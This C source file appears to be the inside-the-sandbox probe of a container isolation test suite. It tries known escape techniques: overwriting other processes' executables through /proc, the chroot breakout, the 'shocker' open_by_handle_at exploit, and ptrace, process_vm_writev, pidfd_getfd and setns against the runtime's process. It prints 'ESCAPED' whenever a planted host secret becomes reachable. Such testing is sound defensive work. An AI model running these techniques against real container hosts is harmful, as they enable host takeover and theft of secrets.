// Rows 5, 6 and 18: the helper's program, descriptors, directories, memory and processes of others.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "payload.h"

extern char **environ;

// Whether a descriptor of a program is one of the tree's own files, which it may write, or no program at all.
static bool is_own_file(int fd) {
  struct stat own, theirs;
  char head[4] = "", path[64];
  if (stat("/proc/self/exe", &own) < 0 || fstat(fd, &theirs) < 0 || own.st_dev == theirs.st_dev) return true;
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int readable = open(path, O_RDONLY);
  bool is_program = readable < 0 || (read(readable, head, 4) == 4 && memcmp(head, "\177ELF", 4) == 0);
  if (readable >= 0) close(readable);
  return !is_program;
}

static long long now_ms(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (long long)now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static bool write_program(const char *path) {
  static const int modes[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC};
  bool has_written = false;
  for (size_t i = 0; i < sizeof modes / sizeof *modes; i++) {
    int fd = open(path, modes[i] | O_NONBLOCK);
    if (fd < 0) continue;
    has_written |= !is_own_file(fd) && write(fd, "#!/bin/sh\n", 10) > 0;
    has_written |= !is_own_file(fd) && ftruncate(fd, 0) == 0;
    void *map = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    has_written |= !is_own_file(fd) && map != MAP_FAILED;
    close(fd);
  }
  return has_written;
}

// Row 5. Programs of processes that come and go are held by a descriptor, and opened for writing once they have ended.
static int programs(int count, char **arguments) {
  long long until = now_ms() + (count > 0 ? atol(arguments[0]) : 0);
  int held[64], used = 0, seen = 0;
  bool has_written = false;
  do {
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    while (processes != NULL && (entry = readdir(processes)) != NULL) {
      char path[300];
      if (atoi(entry->d_name) <= 0 || atoi(entry->d_name) == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      if (chmod(path, 0777) == 0 || chown(path, 0, 0) == 0) seen += 0;
      has_written |= write_program(path);
      int fd = open(path, O_RDONLY);
      if (fd < 0) fd = open(path, O_PATH);
      if (fd >= 0 && !is_own_file(fd) && used < 64) held[used++] = fd, seen++;
      else if (fd >= 0) close(fd);
      snprintf(path, sizeof path, "/proc/%s/map_files", entry->d_name);
      DIR *maps = opendir(path);
      struct dirent *map;
      while (maps != NULL && (map = readdir(maps)) != NULL) {
        char file[600];
        snprintf(file, sizeof file, "%s/%s", path, map->d_name);
        if (map->d_name[0] != '.') has_written |= write_program(file);
      }
      if (maps != NULL) closedir(maps);
    }
    if (processes != NULL) closedir(processes);
    for (int i = 0; i < used; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      has_written |= write_program(path);
    }
  } while (now_ms() < until);
  tell(5, "writing into programs of others", has_written);
  printf("row 5 programs of others that opened: %d\n", seen > 0);
  return 0;
}

// Row 5: runs a program of another's, as a loader or as itself, and tells that it came back.
static int run_others(int count, char **arguments) {
  (void)count;
  (void)arguments;
  static const char *const paths[] = {"/proc/1/exe", "/proc/self/exe", "/bin/interpreted", "/bin/interpreted-agent"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
    pid_t child = fork();
    if (child == 0) {
      int nothing = open("/dev/null", O_RDWR);
      if (nothing < 0) nothing = open("/empty", O_RDWR | O_CREAT, 0600);
      for (int fd = 0; fd < 3; fd++) dup2(nothing, fd);
      alarm(3);
      execl(paths[i], paths[i], "ids", (char *)NULL);
      _exit(126);
    }
    for (int turn = 0; turn < 20; turn++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", child);
      if (write_program(path)) tell(5, paths[i], true);
    }
    int status = 0;
    waitpid(child, &status, 0);
  }
  tell_text(5, "programs of others, executed", "done");
  return 0;
}

static void look_at_descriptors(void) {
  for (int fd = 3; fd < 4096; fd++) {
    if (fcntl(fd, F_GETFD) >= 0) printf("ESCAPED row 6 descriptor %d is open\n", fd);
  }
  for (int fd = 0; fd < 3; fd++) {
    struct stat status;
    if (fstat(fd, &status) < 0) printf("row 6 descriptor %d is closed\n", fd);
    else if (!S_ISFIFO(status.st_mode) && !S_ISCHR(status.st_mode)) printf("ESCAPED row 6 descriptor %d is a file\n", fd);
    // What the host's files are opened by must not be had through a device's or pipe's descriptor.
    if (openat(fd, "..", O_RDONLY) >= 0) printf("ESCAPED row 6 a directory above descriptor %d\n", fd);
  }
  char cwd[4096];
  if (getcwd(cwd, sizeof cwd) == NULL || cwd[0] != '/') printf("ESCAPED row 6 working directory\n");
  for (char **one = environ; *one != NULL; one++) {
    size_t length = strcspn(*one, "=");
    static const char *const known[] = {"PATH", "HOME", "SHELL", "USER", "LOGNAME", "LANG", "TERM", "LC_ALL", "container", "container_uuid"};
    bool is_known = false;
    for (size_t i = 0; i < sizeof known / sizeof *known; i++)
      is_known |= strlen(known[i]) == length && strncmp(known[i], *one, length) == 0;
    if (!is_known) printf("ESCAPED row 6 variable %s\n", *one);
  }
}

static bool has_secret(const char *path, const char *secret) {
  return secret[0] != '\0' && strstr(text_of(path), secret) != NULL;
}

// Whose root, directory or descriptors lead elsewhere than ours.
static void look_at_processes(const char *secret_path, const char *secret) {
  struct stat own, theirs;
  if (stat("/", &own) < 0) return;
  for (int pid = 1; pid < 4096; pid++) {
    char path[600];
    snprintf(path, sizeof path, "/proc/%d", pid);
    if (pid == getpid() || access(path, F_OK) < 0) continue;
    static const char *const places[] = {"root", "cwd"};
    for (size_t i = 0; i < 2; i++) {
      snprintf(path, sizeof path, "/proc/%d/%s/", pid, places[i]);
      if (stat(path, &theirs) == 0 && theirs.st_dev != own.st_dev) printf("ESCAPED row 18 %s of %d\n", places[i], pid);
      snprintf(path, sizeof path, "/proc/%d/%s%s", pid, places[i], secret_path);
      if (has_secret(path, secret)) printf("ESCAPED row 18 secret by %s of %d\n", places[i], pid);
      snprintf(path, sizeof path, "/proc/%d/%s/../../../../../../..%s", pid, places[i], secret_path);
      if (has_secret(path, secret)) printf("ESCAPED row 18 secret above %s of %d\n", places[i], pid);
    }
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    if (strncmp(text_of(path), "crun-", 5) != 0) continue;
    for (int fd = 0; fd < 64; fd++) {
      char link[128];
      snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
      ssize_t length = readlink(path, link, sizeof link - 1);
      if (length <= 0) continue;
      printf("ESCAPED row 18 descriptor %d of crun's %d: %.*s\n", fd, pid, (int)length, link);
    }
    static const char *const files[] = {"environ", "maps", "auxv", "stack", "syscall", "io"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
      snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
      if (text_of(path)[0] != '\0') printf("ESCAPED row 18 %s of crun's %d\n", files[i], pid);
    }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    if (open(path, O_RDWR) >= 0) printf("ESCAPED row 18 memory of crun's %d\n", pid);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0 || ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0)
      printf("ESCAPED row 18 traced crun's %d\n", pid);
    char byte;
    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0 || process_vm_writev(pid, &local, 1, &remote, 1, 0) > 0)
      printf("ESCAPED row 18 process_vm of crun's %d\n", pid);
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; pidfd >= 0 && fd < 32; fd++) {
      if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0) printf("ESCAPED row 18 descriptor %d of crun's %d\n", fd, pid);
    }
    static const char *const spaces[] = {"mnt", "pid", "ipc", "uts", "cgroup", "net", "user"};
    for (size_t i = 0; i < sizeof spaces / sizeof *spaces; i++) {
      snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, spaces[i]);
      int fd = open(path, O_RDONLY);
      if (fd >= 0 && syscall(SYS_setns, fd, 0) == 0) printf("ESCAPED row 18 namespace %s of crun's %d\n", spaces[i], pid);
    }
    if (pidfd >= 0 && syscall(SYS_setns, pidfd, 0x00020000) == 0) printf("ESCAPED row 18 namespaces of crun's %d\n", pid);
    if (prctl(PR_SET_PTRACER, pid, 0, 0, 0) < -1) return;
  }
}

// The file system that holds the tree, by handles: as the exploit that was called shocker did.
static void open_by_handle(long long inode, const char *secret) {
  union {
    struct file_handle handle;
    char space[sizeof(struct file_handle) + 128];
  } at = {.handle.handle_bytes = 128};
  int mount = 0, root = open("/", O_RDONLY | O_DIRECTORY);
  if (name_to_handle_at(AT_FDCWD, "/", &at.handle, &mount, 0) < 0) return tell(17, "handles", false);
  const long long wanted[] = {2, 128, 256, inode};
  for (size_t i = 0; i < sizeof wanted / sizeof *wanted; i++) {
    at.handle.handle_type = 1;
    at.handle.handle_bytes = 8;
    ((unsigned *)at.handle.f_handle)[0] = (unsigned)wanted[i];
    ((unsigned *)at.handle.f_handle)[1] = 0;
    int fd = open_by_handle_at(root, &at.handle, O_RDONLY);
    if (fd < 0) continue;
    char text[256] = "";
    ssize_t ignored = read(fd, text, sizeof text - 1);
    (void)ignored;
    printf("ESCAPED row 17 a file of the host's by its handle%s\n", strstr(text, secret) != NULL ? ", with the secret" : "");
  }
  tell(17, "handles", false);
}

// The oldest way out: a root that is changed while a directory above is held.
static void leave_by_chroot(const char *secret_path, const char *secret) {
  char path[700] = "";
  mkdir("/escape", 0700);
  int above = open("/", O_RDONLY | O_DIRECTORY);
  if (fork() == 0) {
    if (chroot("/escape") == 0 && fchdir(above) == 0) {
      for (int i = 0; i < 64 && chdir("..") == 0; i++) {
      }
      if (chroot(".") == 0 && has_secret(secret_path, secret)) printf("ESCAPED row 6 by chroot\n");
    }
    exit(0);
  }
  wait(NULL);
  close(above);
  rmdir("/escape");
  for (int i = 0; i < 40; i++) strcat(path, "/..");
  strcat(path, secret_path);
  if (has_secret(path, secret) || has_secret(secret_path, secret)) printf("ESCAPED row 6 by ..\n");
  for (int fd = 0; fd < 10; fd++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../../../..%s", fd, secret_path);
    if (has_secret(path, secret)) printf("ESCAPED row 6 by descriptor %d\n", fd);
  }
}

// Rows 6 and 18: SECRET-PATH SECRET INODE of a file of the host's.
static int reach(int count, char **arguments) {
  if (count < 3) return 2;
  look_at_descriptors();
  look_at_processes(arguments[0], arguments[1]);
  leave_by_chroot(arguments[0], arguments[1]);
  open_by_handle(atoll(arguments[2]), arguments[1]);
  tell(18, "others", false);
  return 0;
}

// Row 6: is run with a working directory such as /proc/self/fd/8.
static int where(int count, char **arguments) {
  char cwd[4096];
  if (getcwd(cwd, sizeof cwd) == NULL) strcpy(cwd, "none");
  if (count > 1 && has_secret(arguments[0] + 1, arguments[1])) puts("ESCAPED row 6 by the directory");
  if (count > 1) {
    char above[4200];
    snprintf(above, sizeof above, "../../../../../../../../../../..%s", arguments[0]);
    if (has_secret(above, arguments[1])) puts("ESCAPED row 6 above the directory");
  }
  printf("row 6 directory %s\n", cwd);
  return 0;
}

const struct attack reach_attacks[] = {
    {"programs", programs}, {"run-others", run_others}, {"reach", reach}, {"where", where}, {NULL, NULL}};
